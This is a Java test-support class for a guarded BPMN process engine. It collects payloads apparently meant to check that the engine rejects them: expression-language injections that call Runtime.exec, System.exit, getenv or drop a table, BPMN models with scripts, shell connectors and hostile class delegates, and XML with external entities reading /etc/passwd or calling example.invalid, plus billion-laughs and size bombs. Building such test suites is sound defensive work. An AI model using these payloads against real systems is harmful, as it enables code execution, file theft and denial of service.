package io.duban.engine;

import java.util.List;
import java.util.stream.Stream;

/** Expressions, models and XML that attackers of engines of this kind have tried. */
final class Payloads {

    /** At least fifty ways from an expression to code. */
    static final List<String> EXPRESSIONS = List.of(
            "${''.getClass()}",
            "${''.class}",
            "${\"\".getClass().forName('java.lang.Runtime')}",
            "${''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')}",
            "#{''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null)}",
            "${execution.getClass()}",
            "${execution.engineServices}",
            "${execution.getProcessEngineServices().getRuntimeService()}",
            "${execution.processEngineServices.identityService.newUser('x')}",
            "${execution.setVariable('x', 1)}",
            "${execution.processEngine}",
            "${execution.id}",
            "${task.execution.processEngineServices}",
            "${task.assignee}",
            "${authenticatedUserId}",
            "${currentUser()}",
            "${now()}",
            "${dateTime().plusDays(1)}",
            "${Runtime.getRuntime().exec('id')}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "#{T(java.lang.System).exit(1)}",
            "${java.lang.System.exit(1)}",
            "${System.getenv()}",
            "${reporterVault}",
            "${reporterVault.open()}",
            "#{reporterVault.open()}",
            "${act.getClass()}",
            "${act.class.classLoader}",
            "${act.hashCode()}",
            "${openCases.getClass()}",
            "${openCases.of(caseId).getClass()}",
            "${openCases.of('x')}",
            "${openCases['of']}",
            "${caseId.getClass()}",
            "${caseId.bytes}",
            "${caseId['class']}",
            "${caseId.replaceAll('a','b')}",
            "${dataSource}",
            "${dataSource.connection}",
            "${jdbcTemplate.execute('drop table x')}",
            "${applicationContext}",
            "${environment.getProperty('x')}",
            "${processEngine.identityService}",
            "${springSecurityFilterChain}",
            "${founded ? act : reporterVault}",
            "${empty reporterVault}",
            "${result == reporterVault.open()}",
            "${(result)}",
            "${result += 'x'}",
            "${[1,2,3]}",
            "${{'a':1}}",
            "${x -> x}",
            "${result}${reporterVault}",
            "${result} and ${''.class}",
            "text ${''.class}",
            "${\n''.class}",
            "${result.concat('a')}",
            "${''.getClass().getProtectionDomain().getCodeSource()}",
            "${pageContext.request}",
            "${facesContext}",
            "${initParam}",
            "${spin('x')}",
            "${S('<x/>')}",
            "${connector}",
            "${undeclared}",
            "${!undeclared}",
            "${result == 'x' && undeclared}",
            "${result=='a'?''.class:0}",
            "#{execution.processBusinessKey.getClass()}",
            "${'${'}");

    private static final String SERVICE = "<bpmn:serviceTask id=\"step\" %s/>";
    private static final String EXTENDED =
            "<bpmn:serviceTask id=\"step\" camunda:delegateExpression=\"${act}\"><bpmn:extensionElements>%s"
                    + "</bpmn:extensionElements></bpmn:serviceTask>";
    private static final String USER =
            "<bpmn:userTask id=\"step\"><bpmn:extensionElements>%s</bpmn:extensionElements></bpmn:userTask>";
    private static final String ATTRIBUTE = "<bpmn:userTask id=\"step\" %s/>";
    private static final String EVIL = "${''.getClass().forName('java.lang.Runtime')}";

    private Payloads() {}

    /** Models that carry code, at least sixty, each around the step of one process. */
    static List<String> models() {
        Stream<String> whole = Stream.of(
                "<bpmn:scriptTask id=\"step\" scriptFormat=\"javascript\"><bpmn:script>1</bpmn:script></bpmn:scriptTask>",
                "<bpmn:scriptTask id=\"step\" scriptFormat=\"groovy\"><bpmn:script>1</bpmn:script></bpmn:scriptTask>",
                "<bpmn:scriptTask id=\"step\" scriptFormat=\"juel\"><bpmn:script>${act}</bpmn:script></bpmn:scriptTask>",
                "<bpmn:scriptTask id=\"step\" scriptFormat=\"python\" camunda:resource=\"deployment://x.py\"/>",
                "<bpmn:scriptTask id=\"step\" scriptFormat=\"javascript\" camunda:resource=\"http://example.invalid/x.js\"/>",
                "<bpmn:sendTask id=\"step\" camunda:class=\"x.Y\"/>",
                "<bpmn:sendTask id=\"step\" camunda:type=\"external\" camunda:topic=\"t\"/>",
                "<bpmn:userTask id=\"step\"/><bpmn:dataObject id=\"d\"/>",
                "<bpmn:userTask id=\"step\"/><xi:include href=\"file:///etc/passwd\"/>",
                "<bpmn:userTask id=\"step\"/><evil xmlns=\"urn:evil\"/>",
                "<bpmn:userTask id=\"step\"/><bpmn:adHocSubProcess id=\"a\"/>",
                "<bpmn:userTask id=\"step\"/><bpmn:ioSpecification/>",
                "<bpmn:userTask id=\"step\"><bpmn:standardLoopCharacteristics/></bpmn:userTask>",
                "<bpmn:userTask id=\"step\"><bpmn:potentialOwner/></bpmn:userTask>",
                "<bpmn:userTask id=\"step\"><bpmn:multiInstanceLoopCharacteristics camunda:collection=\"" + EVIL
                        + "\"/></bpmn:userTask>",
                "<bpmn:userTask id=\"step\"><bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality>" + EVIL
                        + "</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics></bpmn:userTask>",
                "<bpmn:userTask id=\"step\"><bpmn:multiInstanceLoopCharacteristics><bpmn:completionCondition>" + EVIL
                        + "</bpmn:completionCondition></bpmn:multiInstanceLoopCharacteristics></bpmn:userTask>",
                "<bpmn:userTask id=\"step\"><bpmn:documentation>" + EVIL + "</bpmn:documentation></bpmn:userTask>",
                "<bpmn:userTask id=\"step\" name=\"" + EVIL + "\"/>",
                "<bpmn:intermediateCatchEvent id=\"step\"><bpmn:timerEventDefinition><bpmn:timeDate>" + EVIL
                        + "</bpmn:timeDate></bpmn:timerEventDefinition></bpmn:intermediateCatchEvent>",
                "<bpmn:intermediateCatchEvent id=\"step\"><bpmn:timerEventDefinition><bpmn:timeDuration>" + EVIL
                        + "</bpmn:timeDuration></bpmn:timerEventDefinition></bpmn:intermediateCatchEvent>",
                "<bpmn:intermediateCatchEvent id=\"step\"><bpmn:timerEventDefinition><bpmn:timeCycle>" + EVIL
                        + "</bpmn:timeCycle></bpmn:timerEventDefinition></bpmn:intermediateCatchEvent>",
                "<bpmn:intermediateCatchEvent id=\"step\"><bpmn:conditionalEventDefinition><bpmn:condition>${founded}"
                        + "</bpmn:condition></bpmn:conditionalEventDefinition></bpmn:intermediateCatchEvent>",
                "<bpmn:intermediateThrowEvent id=\"step\"><bpmn:messageEventDefinition camunda:class=\"x.Y\"/>"
                        + "</bpmn:intermediateThrowEvent>",
                "<bpmn:intermediateThrowEvent id=\"step\"><bpmn:messageEventDefinition camunda:type=\"external\""
                        + " camunda:topic=\"t\"/></bpmn:intermediateThrowEvent>",
                "<bpmn:exclusiveGateway id=\"step\"/><bpmn:sequenceFlow id=\"g\" sourceRef=\"step\" targetRef=\"end\">"
                        + "<bpmn:conditionExpression xsi:type=\"bpmn:tFormalExpression\">" + EVIL
                        + "</bpmn:conditionExpression></bpmn:sequenceFlow>",
                "<bpmn:exclusiveGateway id=\"step\"/><bpmn:sequenceFlow id=\"g\" sourceRef=\"step\" targetRef=\"end\">"
                        + "<bpmn:conditionExpression xsi:type=\"bpmn:tFormalExpression\" language=\"groovy\">1"
                        + "</bpmn:conditionExpression></bpmn:sequenceFlow>",
                "<bpmn:exclusiveGateway id=\"step\"/><bpmn:sequenceFlow id=\"g\" sourceRef=\"step\" targetRef=\"end\">"
                        + "<bpmn:conditionExpression xsi:type=\"bpmn:tFormalExpression\" language=\"javascript\""
                        + " camunda:resource=\"x.js\"/></bpmn:sequenceFlow>",
                "<bpmn:callActivity id=\"step\" calledElement=\"" + EVIL + "\"/>",
                "<bpmn:callActivity id=\"step\" calledElement=\"y\" camunda:variableMappingClass=\"x.Y\"/>",
                "<bpmn:callActivity id=\"step\" calledElement=\"y\" camunda:variableMappingDelegateExpression=\"${act}\"/>",
                "<bpmn:callActivity id=\"step\" calledElement=\"y\"><bpmn:extensionElements><camunda:in"
                        + " sourceExpression=\"" + EVIL
                        + "\" target=\"x\"/></bpmn:extensionElements></bpmn:callActivity>",
                "<bpmn:callActivity id=\"step\" calledElement=\"y\"><bpmn:extensionElements><camunda:in"
                        + " variables=\"all\"/></bpmn:extensionElements></bpmn:callActivity>",
                "<bpmn:callActivity id=\"step\" calledElement=\"y\"><bpmn:extensionElements><camunda:in"
                        + " businessKey=\"" + EVIL + "\"/></bpmn:extensionElements></bpmn:callActivity>",
                "<bpmn:businessRuleTask id=\"step\" camunda:class=\"x.Y\"/>",
                "<bpmn:businessRuleTask id=\"step\" camunda:decisionRef=\"" + EVIL + "\"/>");
        Stream<String> services = Stream.of(
                        "camunda:class=\"java.lang.Runtime\"",
                        "camunda:expression=\"${act}\"",
                        "camunda:expression=\"" + EVIL + "\" camunda:resultVariable=\"r\"",
                        "camunda:delegateExpression=\"${reporterVault}\"",
                        "camunda:delegateExpression=\"${dataSource}\"",
                        "camunda:delegateExpression=\"act\"",
                        "camunda:delegateExpression=\"${caseId}\"",
                        "camunda:delegateExpression=\"" + EVIL + "\"",
                        "camunda:type=\"external\" camunda:topic=\"t\"",
                        "camunda:type=\"mail\"",
                        "camunda:type=\"shell\"",
                        "implementation=\"##WebService\" camunda:delegateExpression=\"${act}\"",
                        "operationRef=\"op\" camunda:delegateExpression=\"${act}\"")
                .map(SERVICE::formatted);
        Stream<String> extended = Stream.of(
                        "<camunda:executionListener class=\"x.Y\" event=\"start\"/>",
                        "<camunda:executionListener expression=\"${act}\" event=\"start\"/>",
                        "<camunda:executionListener delegateExpression=\"${act}\" event=\"start\"/>",
                        "<camunda:executionListener event=\"start\"><camunda:script scriptFormat=\"groovy\">1"
                                + "</camunda:script></camunda:executionListener>",
                        "<camunda:connector><camunda:connectorId>http-connector</camunda:connectorId></camunda:connector>",
                        "<camunda:inputOutput><camunda:inputParameter name=\"x\">${caseId}</camunda:inputParameter>"
                                + "</camunda:inputOutput>",
                        "<camunda:inputOutput><camunda:outputParameter name=\"x\"><camunda:script scriptFormat=\"js\">1"
                                + "</camunda:script></camunda:outputParameter></camunda:inputOutput>",
                        "<camunda:field name=\"x\" stringValue=\"y\"/>",
                        "<camunda:field name=\"x\"><camunda:expression>" + EVIL
                                + "</camunda:expression></camunda:field>",
                        "<camunda:errorEventDefinition errorRef=\"e\" expression=\"" + EVIL + "\"/>",
                        "<camunda:properties><camunda:property name=\"a\" value=\"b\"/></camunda:properties>",
                        "<camunda:failedJobRetryTimeCycle>" + EVIL + "</camunda:failedJobRetryTimeCycle>")
                .map(EXTENDED::formatted);
        Stream<String> users = Stream.of(
                        "<camunda:taskListener class=\"x.Y\" event=\"create\"/>",
                        "<camunda:taskListener expression=\"" + EVIL + "\" event=\"create\"/>",
                        "<camunda:taskListener delegateExpression=\"${act}\" event=\"complete\"/>",
                        "<camunda:taskListener event=\"create\"><camunda:script scriptFormat=\"js\" resource=\"x.js\"/>"
                                + "</camunda:taskListener>",
                        "<camunda:formData><camunda:formField id=\"f\" type=\"string\" defaultValue=\"" + EVIL
                                + "\"/></camunda:formData>")
                .map(USER::formatted);
        Stream<String> attributes = Stream.of(
                        "camunda:formKey=\"embedded:app:forms/x.html\"",
                        "camunda:formKey=\"http://example.invalid/\"",
                        "camunda:assignee=\"" + EVIL + "\"",
                        "camunda:candidateUsers=\"${reporterVault.open()}\"",
                        "camunda:candidateGroups=\"office.${''.class}\"",
                        "camunda:dueDate=\"" + EVIL + "\"",
                        "camunda:followUpDate=\"${now()}\"",
                        "camunda:priority=\"${''.class}\"",
                        "camunda:formRef=\"" + EVIL + "\"",
                        "camunda:formHandlerClass=\"x.Y\"",
                        "camunda:initiator=\"x\"",
                        "camunda:taskListenerClass=\"x.Y\"")
                .map(ATTRIBUTE::formatted);
        return Stream.of(whole, services, extended, users, attributes)
                .flatMap(each -> each)
                .map(GuardedEngine::process)
                .toList();
    }

    /** At least fifteen documents that read files, call out or blow up. */
    static List<String> xml() {
        String plain = GuardedEngine.process("<bpmn:userTask id=\"step\" name=\"%s\"/>");
        Stream<String> doctypes = Stream.of(
                        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
                        "<!DOCTYPE x [<!ENTITY e SYSTEM \"http://example.invalid/x\">]>",
                        "<!DOCTYPE x [<!ENTITY e PUBLIC \"p\" \"file:///etc/hostname\">]>",
                        "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://example.invalid/x.dtd\"> %p;]>",
                        "<!DOCTYPE x [<!ENTITY % p SYSTEM \"file:///etc/passwd\"><!ENTITY e '%p;'>]>",
                        "<!DOCTYPE x SYSTEM \"http://example.invalid/x.dtd\">",
                        "<!DOCTYPE x SYSTEM \"file:///dev/random\">",
                        "<!DOCTYPE x PUBLIC \"-//x//y\" \"jar:http://example.invalid/a.jar!/x\">",
                        "<!DOCTYPE x [<!ENTITY e \"a\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">]>",
                        "<!DOCTYPE x [" + lolz() + "]>",
                        "<!DOCTYPE x [<!ENTITY e \"" + "a".repeat(50_000) + "\">]>",
                        "<!DOCTYPE x [<!ENTITY e SYSTEM \"netdoc:///etc/passwd\">]>",
                        "<!DOCTYPE x [<!ENTITY e SYSTEM \"ftp://example.invalid/x\">]>",
                        "<!DOCTYPE x [<!ENTITY e SYSTEM \"gopher://example.invalid/x\">]>",
                        "<!DOCTYPE x [<!ATTLIST bpmn:process evil CDATA \"x\">]>",
                        "<!DOCTYPE x [<!NOTATION n SYSTEM \"file:///bin/sh\">]>",
                        "<!DOCTYPE x>")
                .map(doctype -> plain.formatted(doctype.contains("ENTITY e") ? "&e;" : "x")
                        .replace("?>", "?>\n" + doctype));
        Stream<String> others = Stream.of(
                plain.formatted("x").replace("?>", "?>\n<?xml-stylesheet href=\"http://example.invalid/x.xsl\"?>"),
                plain.formatted("x")
                        .replace(
                                "<bpmn:startEvent",
                                "<bpmn:textAnnotation id=\"a\">" + "<bpmn:text>".repeat(3_000)
                                        + "</bpmn:text>".repeat(3_000) + "</bpmn:textAnnotation><bpmn:startEvent"),
                plain.formatted("x")
                        .replace("<bpmn:startEvent", "<bpmn:task id=\"t\"/>".repeat(40_000) + "<bpmn:startEvent"),
                plain.formatted("x".repeat(3 << 20)),
                plain.formatted("x").replace("</bpmn:definitions>", ""),
                "\u0000\u0001 no xml at all");
        return Stream.concat(doctypes, others).toList();
    }

    private static String lolz() {
        StringBuilder text = new StringBuilder("<!ENTITY l0 \"lol\">");
        for (int i = 1; i < 10; i++) {
            text.append("<!ENTITY l")
                    .append(i)
                    .append(" \"")
                    .append(("&l" + (i - 1) + ";").repeat(10))
                    .append("\">");
        }
        return text.append("<!ENTITY e \"&l9;\">").toString();
    }
}
